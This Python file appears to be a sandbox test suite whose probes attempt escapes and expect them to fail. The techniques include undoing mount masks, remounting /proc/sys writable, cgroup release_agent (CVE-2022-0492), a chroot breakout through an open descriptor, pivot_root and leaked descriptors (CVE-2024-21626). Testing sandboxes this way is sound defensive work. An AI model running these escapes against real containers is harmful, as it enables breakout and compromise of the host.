"""Getting rid of what was mounted over the host's files, and getting at what lies around the sandbox's root.

Where it matters the attack has every capability in a user namespace of its own, which the default allows.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import os
import signal
import struct

from core import (
    NEWCGROUP,
    NEWNET,
    NEWNS,
    NEWPID,
    NEWUSER,
    Absent,
    Context,
    Shut,
    call,
    in_child,
    mount,
    nested,
    opened,
    probe,
    reached,
    umount,
    unshare,
)

PROMISE = "mounts"
MS_REMOUNT, MS_BIND, MS_REC = 32, 4096, 16384


def _first(context: Context, key: str) -> str:
    """What is covered here: in the naive world a stand-in, see ``naive.py``."""
    for path in context[key]:
        if os.path.exists(path):
            return str(path)
    raise Absent(f"nothing of {key} here")


# Without capabilities.

@probe(PROMISE, "mounts would be made, and the masks be undone", "EPERM", proof="open")
def mount_a_tmpfs(context: Context) -> object:
    """Mounts a tmpfs as the sandbox's root, in no namespace of its own."""
    mount("x", "/mnt", "tmpfs", 0)
    return "a mount"


@probe(PROMISE, "a hole of the mount API would be in reach (CVE-2022-0185)", "EPERM", proof="open")
def fsopen(context: Context) -> object:
    """Opens a file system context, as the sandbox's root."""
    os.close(call("fsopen", b"tmpfs", 0))
    return "a context"


@probe(PROMISE, "the tree would be copied without its masks", "EPERM", proof="open")
def open_tree(context: Context) -> object:
    """Copies the mount at /dev/shm as the sandbox's root."""
    os.close(call("open_tree", -100, b"/dev/shm", 1))
    return "a copy"


@probe(PROMISE, "a mask would be taken away", "EPERM", proof="naive", root=True)
def umount_without_capability(context: Context) -> object:
    """Unmounts what covers a file, as the sandbox's root."""
    if context["world"] == "naive":
        nested(context, NEWNS)  # for the probes that come after this one
    umount(_first(context, "masked_files"))
    return "uncovered"


# With every capability in a user namespace of its own.

LOCKED = ("EINVAL", "EPERM")


def _in_namespace(name: str, weaker: str, *reasons: str) -> object:
    return probe(PROMISE, weaker, *(reasons or LOCKED), proof="naive", root=True, name=name)


@_in_namespace("umount_a_masked_file", "the machine's memory would be read through /proc/kcore")
def umount_a_masked_file(context: Context) -> object:
    """Unmounts what covers a file, in a user namespace of its own."""
    nested(context, NEWNS)
    umount(_first(context, "masked_files"))
    return "uncovered"


@_in_namespace("umount_a_masked_directory", "the firmware's files would be read")
def umount_a_masked_directory(context: Context) -> object:
    """Unmounts what covers a directory, in a user namespace of its own."""
    nested(context, NEWNS)
    umount(_first(context, "masked_directories"))
    return "uncovered"


@_in_namespace("umount_read_only", "/proc/sys would be writable below its cover")
def umount_read_only(context: Context) -> object:
    """Unmounts the read-only cover of /proc/sys, in a user namespace of its own."""
    nested(context, NEWNS)
    umount(_first(context, "read_only"))
    return "uncovered"


@_in_namespace("remount_read_only", "/proc/sys would be written to")
def remount_read_only(context: Context) -> object:
    """Makes the read-only cover of /proc/sys writable, in a user namespace of its own."""
    nested(context, NEWNS)
    mount("none", _first(context, "read_only"), None, MS_REMOUNT | MS_BIND)
    return "writable"


@_in_namespace("mount_setattr_read_only", "/proc/sys would be written to")
def mount_setattr_read_only(context: Context) -> object:
    """The same by mount_setattr(2)."""
    nested(context, NEWNS)
    attributes = ctypes.create_string_buffer(struct.pack("QQQQ", 0, 1, 0, 0), 32)
    call("mount_setattr", -100, _first(context, "read_only").encode(), 0, attributes, 32)
    return "writable"


@_in_namespace("remount_read_only_bind", "the caller's files would be changed")
def remount_read_only_bind(context: Context) -> object:
    """Makes a read-only mount of the caller's writable, in a user namespace of its own."""
    nested(context, NEWNS)
    mount("none", _first(context, "read_only_binds"), None, MS_REMOUNT | MS_BIND)
    return "writable"


@_in_namespace("move_a_mask", "the machine's memory would be read through /proc/kcore")
def move_a_mask(context: Context) -> object:
    """Moves what covers a file somewhere else, in a user namespace of its own."""
    nested(context, NEWNS)
    path = _first(context, "masked_files").encode()
    os.close(os.open("/tmp/attack-moved", os.O_CREAT, 0o600))
    call("move_mount", -100, path, -100, b"/tmp/attack-moved", 0)
    return "moved"


@_in_namespace("bind_below_masks", "/proc would be seen without its covers")
def bind_below_masks(context: Context) -> object:
    """Binds the tree below the covers somewhere else, without them, in a user namespace of its own."""
    nested(context, NEWNS)
    place = "/tmp/attack-below"
    os.makedirs(place, exist_ok=True)
    mount(os.path.dirname(_first(context, "masked_files")), place, None, MS_BIND)
    return "below the covers"


@_in_namespace("copy_below_masks", "/proc would be seen without its covers")
def copy_below_masks(context: Context) -> object:
    """Copies the tree below the covers by open_tree(2), in a user namespace of its own."""
    nested(context, NEWNS)
    os.close(call("open_tree", -100, os.path.dirname(_first(context, "masked_files")).encode(), 1))
    return "below the covers"


@_in_namespace("rename_below_masks", "what is covered would be reached by another name", "EBUSY", "EACCES", "EPERM",
               "ENOENT", "EXDEV")
def rename_below_masks(context: Context) -> object:
    """Renames the file that something covers."""
    nested(context, NEWNS)
    path = _first(context, "masked_files")
    if context["world"] == "naive":
        umount(path)  # what the kernel refuses by itself: a mount point is busy
    os.rename(path, path + ".away")
    return "renamed"


@_in_namespace("fresh_proc", "/proc would be seen without its covers", "EPERM")
def fresh_proc(context: Context) -> object:
    """Mounts another /proc in user, mount and pid namespaces of its own."""
    def body() -> object:
        mount("proc", "/tmp", "proc", 0)
        return opened("/tmp/sys/kernel/core_pattern", os.O_WRONLY)

    nested(context, NEWNS | NEWPID)
    return in_child(body)


@_in_namespace("fresh_sys", "/sys would be written to", "EPERM", "EACCES", "EROFS", "ENOENT")
def fresh_sys(context: Context) -> object:
    """Mounts another /sys in namespaces of its own, and opens a switch in it for writing."""
    nested(context, NEWNS | NEWNET)
    mount("sysfs", "/tmp", "sysfs", 0)
    for name in ("kernel/uevent_helper", "kernel/profiling", "kernel/rcu_expedited", "power/state"):
        if os.path.exists(f"/tmp/{name}"):
            return opened(f"/tmp/{name}", os.O_WRONLY)
    raise Absent("no such switch here")


def _kind(name: str, kind: str, weaker: str, *errnos: str, options: str | None = None) -> None:
    @probe(PROMISE, weaker, "EPERM", "ENODEV", proof="naive", root=True, name=name)
    def attack(context: Context) -> object:
        nested(context, NEWNS)
        try:
            return reached(lambda: mount("/dev/null", "/tmp", kind, 0, options), *errnos)
        except OSError as error:
            if error.errno == 19 and context["world"] == "naive":
                raise Absent(f"this kernel has no {kind}") from None
            raise

    attack.__doc__ = f"Mounts {kind} in a user namespace of its own."


_kind("mount_a_disk", "ext4", "the host's disk would be mounted; a crafted one would break the kernel", "ENOTBLK")
_kind("mount_debugfs", "debugfs", "the kernel would be steered", "EBUSY")
_kind("mount_tracefs", "tracefs", "the kernel would be traced", "EBUSY")
_kind("mount_securityfs", "securityfs", "security modules would be set", "EBUSY")
_kind("mount_configfs", "configfs", "devices would be made", "EBUSY")
_kind("mount_pstore", "pstore", "the last crash of the machine would be read", "EBUSY")
_kind("mount_devtmpfs", "devtmpfs", "every device would be there", "EBUSY")


def _cgroup(context: Context, kind: str, options: str | None) -> None:
    nested(context, NEWNS if context["world"] == "naive" else NEWNS | NEWCGROUP)
    try:
        mount("cgroup", "/tmp", kind, 0, options)
    except OSError as error:
        if error.errno in (2, 16, 19, 22):
            raise (Absent if context["world"] == "naive" else Shut)("no such hierarchy") from None
        raise


@probe(PROMISE, "a program of the attacker's would run as root on the host (CVE-2022-0492)", "EPERM",
       "shut: nothing to write", "shut: no such hierarchy", proof="naive", root=True)
def release_agent(context: Context) -> object:
    """Mounts a v1 hierarchy in namespaces of its own, and opens release_agent for writing."""
    _cgroup(context, "cgroup", "memory")
    try:
        return opened("/tmp/release_agent", os.O_WRONLY)
    except FileNotFoundError:
        raise Shut("nothing to write") from None


def _others(context: Context, kind: str, options: str | None) -> object:
    _cgroup(context, kind, options)
    folders = [one.path for one in os.scandir("/tmp") if one.is_dir()]
    for folder in folders:
        with contextlib.suppress(OSError):
            return opened(f"{folder}/cgroup.procs", os.O_WRONLY)
    if context["world"] == "naive":
        raise Absent("nothing is below this machine's cgroup")
    raise Shut("its own only")


@probe(PROMISE, "the sandbox's limits would be lifted, others' processes be frozen", "EPERM", "shut: its own only",
       "shut: no such hierarchy", proof="naive", root=True)
def cgroups_of_version_2(context: Context) -> object:
    """Mounts cgroup v2 in namespaces of its own, and looks for a cgroup beside its own whose list of processes it
    can open for writing."""
    return _others(context, "cgroup2", None)


@probe(PROMISE, "the sandbox's limits would be lifted", "EPERM", "shut: its own only", "shut: no such hierarchy",
       proof="naive", root=True)
def cgroups_of_version_1(context: Context) -> object:
    """Mounts the v1 hierarchy of process numbers, and looks for a cgroup beside its own whose list of processes it
    can open for writing."""
    return _others(context, "cgroup", "pids")


# Around the root.

@probe("root", "the host's files would be reached by chroot, twice", "shut: the sandbox's own root", "EPERM",
       proof="outside", root=True)
def chroot_escape(context: Context) -> object:
    """Leaves a chroot of its own by a directory that was open, as anybody can, and goes on upwards from there."""
    before = os.stat("/")
    place = "/tmp/attack-jail" if context["world"] != "outside" else context["folder"]
    os.makedirs(place, exist_ok=True)
    root = os.open("/", os.O_RDONLY)
    if context["world"] == "outside":  # the stand-in for a sandbox is a chroot of the test's own folder
        os.chroot(place)
        before = os.stat("/")
        place = "/inner"
        os.makedirs(place, exist_ok=True)
    os.chroot(place)
    os.fchdir(root)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    after = os.stat("/")
    if (before.st_dev, before.st_ino) != (after.st_dev, after.st_ino):
        return "another root"
    raise Shut("the sandbox's own root")


@probe("root", "the old root would be put back", "EPERM", "EINVAL", proof="naive", root=True)
def pivot_back(context: Context) -> object:
    """Exchanges the root by pivot_root(2), in a user namespace of its own, and looks for the old one above it."""
    nested(context, NEWNS)
    before = os.stat("/proc/self/root/")
    mount("none", "/", None, MS_REC | 1 << 18)
    mount("new", "/tmp", "tmpfs", 0)
    os.mkdir("/tmp/old")
    os.chdir("/tmp")
    call("pivot_root", b".", b"old")
    os.chdir("/old")
    if context["world"] == "naive":
        look = os.stat("/old")
        assert (look.st_dev, look.st_ino) == (before.st_dev, before.st_ino)
        return "the old root"
    for _ in range(10):
        os.chdir("..")
    if sorted(os.listdir("/")) == ["old"]:
        raise OSError(1, "no other root than its own")
    return "another root"


@probe("root", "the host's tree would be reached through init", "EACCES", "EPERM", "ENOENT", "shut: inside",
       proof="outside")
def root_of_init(context: Context) -> object:
    """Goes through /proc/1/root; outside through the runner's own."""
    pid = os.getppid() if context["world"] == "outside" else 1
    look, own = os.stat(f"/proc/{pid}/root/"), os.stat("/")
    if context["world"] == "outside":
        return os.listdir(f"/proc/{pid}/root/")[:1]
    if (look.st_dev, look.st_ino) == (own.st_dev, own.st_ino):
        raise Shut("inside")
    return os.listdir("/proc/1/root/")


@probe("root", "the host's tree would be reached through a directory that was left open (CVE-2024-21626)",
       "shut: none", proof="outside")
def inherited_directories(context: Context) -> object:
    """Looks for a descriptor of a directory that lies outside of the root."""
    return _inherited(lambda link: link.startswith("/") and os.path.isdir(link))


@probe("root", "files and sockets of the caller would be used", "shut: none", proof="outside")
def inherited_descriptors(context: Context) -> object:
    """Looks for a descriptor beyond standard input, output and error that leads to a file of the host.

    A marked test is a fork of pytest, and has what that has open: null devices, and files without a name.
    """
    return _inherited(lambda link: link.startswith("/") and link != "/dev/null" and not link.endswith(" (deleted)"))


def _inherited(matches: object) -> object:
    assert callable(matches)
    for name in os.listdir("/proc/self/fd"):
        try:
            link = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        # The pipe by which this child tells its verdict comes from core.py.
        if int(name) > 2 and not link.startswith(("pipe:", f"/proc/{os.getpid()}")) and matches(link):
            return link
    raise Shut("none")


@probe(PROMISE, "mounts that are made inside would show on the host", "shut: private", proof="naive", root=True)
def shared_mounts(context: Context) -> object:
    """Looks for a mount that passes on what is mounted below it."""
    if context["world"] == "naive":
        mount("stand", "/mnt", "tmpfs", 0)
        mount("none", "/mnt", None, 1 << 20)  # MS_SHARED, as systemd makes everything
    with open("/proc/self/mountinfo") as file:
        for line in file:
            if " shared:" in line.split(" - ")[0]:
                return line
    raise Shut("private")


@probe("namespaces", "the namespace around would be entered", "EPERM", "EINVAL", proof="outside")
def parent_of_the_namespace(context: Context) -> object:
    """Asks for the parent of its user namespace by ioctl_ns(2); of a child's first, to see that it works."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            unshare(NEWUSER)
            os.write(writing, b"x")
            signal.pause()
        finally:
            os._exit(0)
    os.close(writing)
    if not os.read(reading, 1):
        raise Absent("no user namespace inside")
    fd = os.open(f"/proc/{pid}/ns/user", os.O_RDONLY)
    parent = fcntl.ioctl(fd, 0xB702)  # NS_GET_PARENT: ours
    os.kill(pid, 9)
    os.waitpid(pid, 0)
    if context["world"] == "outside":
        return "the parent of a child's"
    return f"descriptor {fcntl.ioctl(parent, 0xB702)}"
